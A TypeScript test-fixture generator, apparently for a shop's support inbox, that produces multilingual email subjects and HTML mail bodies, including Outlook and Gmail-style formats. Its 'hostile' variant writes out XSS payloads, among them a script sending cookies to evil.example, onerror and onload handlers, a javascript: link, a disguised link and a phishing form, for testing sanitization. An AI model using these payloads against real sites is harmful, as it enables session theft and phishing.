import type { Random } from '../../kit/ids.ts'
import { pick } from '../../kit/random.ts'
import { escaped } from '../inbound.ts'

const subjects = {
  id: [
    'Pesanan {pesanan}',
    'Tanya {barang}',
    'Retur {barang} {warna}',
    'Ongkir ke {kota}',
    'Pembayaran {bank} belum masuk',
  ],
  en: [
    'Order {pesanan}',
    'Question about the {item}',
    'Return: {item} in {color}',
    'Shipping to {kota}',
    'Refund for {pesanan}',
  ],
  ar: ['الطلب {pesanan}', 'استفسار عن المقاس'],
  he: ['הזמנה {pesanan}', 'שאלה על המידה'],
}

export function subjectFor(random: Random, language: keyof typeof subjects): string {
  return pick(random, subjects[language])
}

/** A body as programs write it: plain, with a mail program's clutter, with what it answers below it, or hostile. */
export function mailBody(random: Random, text: string, before: string | null): string {
  const draw = random()
  if (draw < 0.45) return `<div dir="auto">${escaped(text)}</div>`
  if (draw < 0.6) return cluttered(text)
  if (draw < 0.75 && before !== null) return quoting(text, before)
  if (draw < 0.85) return tabular(text)
  if (draw < 0.95) return `<p>${escaped(text)}</p><p>--<br>Sent from my phone</p>`
  return hostile(text)
}

export function agentBody(text: string): string {
  return `<p>${escaped(text)}</p>`
}

function cluttered(text: string): string {
  return `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8">
<style><!-- @font-face {font-family:Calibri;} p.MsoNormal {margin:0cm; font-size:11.0pt;} --></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head>
<body lang="EN-US" link="#0563C1"><div class="WordSection1"><p class="MsoNormal">${escaped(text)}<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Kind regards&#44;<br>Purchasing &amp; Logistics</p></div></body></html>`
}

function quoting(text: string, before: string): string {
  return `<div>${escaped(text)}</div><br><div class="gmail_quote"><div>On Monday, Support &lt;<a href="mailto:support@tokojakarta.example">support@tokojakarta.example</a>&gt; wrote:<br></div>
<blockquote style="margin:0 0 0 .8ex;border-left:1px #ccc solid">${before}</blockquote></div>`
}

function tabular(text: string): string {
  return `<table width="100%" cellpadding="0"><tbody><tr><td><h2>My order</h2></td></tr><tr><td>${escaped(text)}</td></tr>
<tr><td><ul><li>1 &times; linen shirt</li><li>2 &times; tote bag</li></ul></td></tr>
<tr><td><a href="https://shop.example/orders?id=42&amp;utm_source=mail">See the order</a></td></tr></tbody></table>`
}

/** Everything that must not run, load or be believed on an agent's screen. */
function hostile(text: string): string {
  return `<style>body{background:url(https://tracker.example/bg.gif)} .x:after{content:"injected"}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script >
<img src="https://tracker.example/open.gif?id=8842" width="1" height="1" alt="">
<img src=x onerror="fetch('https://evil.example')"><svg onload="alert(1)"><script>alert(2)</script></svg>
<div onclick="steal()">${escaped(text)}</div><iframe src="https://evil.example"></iframe>
<a href="javascript:alert(document.domain)">Click to confirm</a> <a href="https://evil.example/login">https://tokojakarta.example</a>
<form action="https://evil.example"><input type="password" value="secret"></form><!-- <b>not shown</b> -->`
}
